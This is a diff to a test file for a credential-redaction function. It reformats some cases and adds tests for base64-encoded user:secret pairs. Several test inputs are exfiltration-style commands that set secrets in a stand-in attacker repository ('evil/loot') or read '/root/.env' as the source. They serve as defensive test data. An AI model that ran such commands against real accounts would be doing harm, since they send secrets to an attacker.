@@ -302,7 +302,10 @@ describe('redact: a credential cut at the end of the text', () => {
     ['push https://Sx8kLp2Q', 'push https://[REDACTED]'],
     ['push https://ghp_R4nd0mT0k3n', 'push https://[REDACTED]'],
     ['-H X-Auth: eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJze', '-H X-Auth: [REDACTED]'],
-    ['push https://bob:Sx8kLp2Q […cut by the sensor: the rest', 'push https://[REDACTED] […cut by the sensor: the rest'],
+    [
+      'push https://bob:Sx8kLp2Q […cut by the sensor: the rest',
+      'push https://[REDACTED] […cut by the sensor: the rest',
+    ],
     ['-e AWS_ACCESS_KEY_ID AKIAQWERTY12', '-e AWS_ACCESS_KEY_ID [REDACTED]'],
     // What a cut leaves that is no credential stays: a host, a host and port, a word.
     ['push https://github.com', 'push https://github.com'],
@@ -334,12 +337,42 @@ describe("redact: a forge setting's value", () => {
     ],
     ['variable set K Sx8kLp2QvR7tYw --masked -R evil/loot', 'variable set K [REDACTED] --masked -R evil/loot'],
     ['variable update K --value Sx8kLp2QvR7tYw -g evil', 'variable update K --value [REDACTED] -g evil'],
-    ['sh -c echo Sx8kLp2QvR7tYw | gh secret set K -R evil/loot', 'sh -c echo [REDACTED] | gh secret set K -R evil/loot'],
+    [
+      'sh -c echo Sx8kLp2QvR7tYw | gh secret set K -R evil/loot',
+      'sh -c echo [REDACTED] | gh secret set K -R evil/loot',
+    ],
     ['sh -c gh secret set K -R evil/loot <<< Sx8kLp2QvR7tYw', 'sh -c gh secret set K -R evil/loot <<< [REDACTED]'],
     // gh's -v is the visibility; a value from a file or stdin is named by no word.
     ['secret set K -v all --org evil -f /root/.env', 'secret set K -v all --org evil -f /root/.env'],
     ['secret set K -R evil/loot', 'secret set K -R evil/loot'],
     ['variable set K -f /root/.env -R evil/loot', 'variable set K -f /root/.env -R evil/loot'],
+  ])('%s', (input, output) => {
+    expect(redact(input)).toBe(output);
+    expect(redact(output)).toBe(output);
+  });
+});
+
+// Base64 of user:secret is known by what it decodes to; base64 of anything else, a digest, a path stay.
+describe('redact: base64 of user:secret', () => {
+  const pair = Buffer.from('bob:Sx8kLp2QvR7tYw').toString('base64');
+  const unpadded = Buffer.from('x-access-token:Sx8kLp2QvR7tYw1').toString('base64').replace(/=+$/, '');
+  it.each([
+    [`echo ${pair} | base64 -d > /root/.git-credentials`, 'echo [REDACTED] | base64 -d > /root/.git-credentials'],
+    [`--auth=${unpadded} push`, '--auth=[REDACTED] push'],
+    ['-H Authorization: Basic Ym9iOlN4OGtMcDJRdlI3dFl3', '-H Authorization: [REDACTED]'],
+    ['-d {"alg":"x"} eyJhbGciOiJSUzI1NiJ9 x', '-d {"alg":"x"} eyJhbGciOiJSUzI1NiJ9 x'],
+    [
+      `push ${Buffer.from('just some text').toString('base64')} x`,
+      `push ${Buffer.from('just some text').toString('base64')} x`,
+    ],
+    [
+      'cp /usr/local/share/ca-certificates/AcmeRootCA2024.crt /tmp',
+      'cp /usr/local/share/ca-certificates/AcmeRootCA2024.crt /tmp',
+    ],
+    [
+      'push ghcr.io/acme/app@sha256:0123456789abcdef0123456789abcdef',
+      'push ghcr.io/acme/app@sha256:0123456789abcdef0123456789abcdef',
+    ],
   ])('%s', (input, output) => {
     expect(redact(input)).toBe(output);
     expect(redact(output)).toBe(output);
